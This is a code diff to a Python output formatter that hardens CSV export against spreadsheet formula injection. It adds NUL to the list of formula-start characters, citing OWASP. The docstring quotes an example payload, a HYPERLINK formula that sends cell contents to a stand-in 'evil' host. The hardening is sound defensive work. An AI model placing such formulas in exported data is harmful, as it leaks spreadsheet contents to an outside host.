@@ -8,7 +8,7 @@ gets none of them: table, ``show`` text, and CSV when stdout is a terminal. Tab 
 newline stay.
 
 A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, through
-some importers, tab or CR) as a formula: ``=HYPERLINK("http://evil/?"&A1, "click")`` leaks
+some importers, tab, CR or NUL) as a formula: ``=HYPERLINK("http://evil/?"&A1, "click")`` leaks
 the sheet. CSV follows OWASP's rule (CSV injection): such a text cell gets a leading
 ``'``, which spreadsheets hide and do not run. Numbers are left alone (a negative score is
 not a formula). ``--raw`` turns the rule off for pipelines that need the values as
@@ -25,7 +25,9 @@ from collections.abc import Iterable, Iterator, Mapping
 # C0 controls but tab and newline, DEL, C1 (U+0080-U+009F), bidi embeddings/overrides
 # (U+202A-U+202E) and isolates (U+2066-U+2069).
 _TERMINAL_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# OWASP's list, and NUL, which OWASP ASVS 1.2.10 adds: an importer that skips it reads on
+# into the "=" behind it.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\x00")
 # What json.dumps(ensure_ascii=False) leaves literal but a terminal may act on, and the
 # line and paragraph separators (U+2028, U+2029), which end a line for Python's
 # str.splitlines and other Unicode-aware line readers: a JSON Lines record holding one
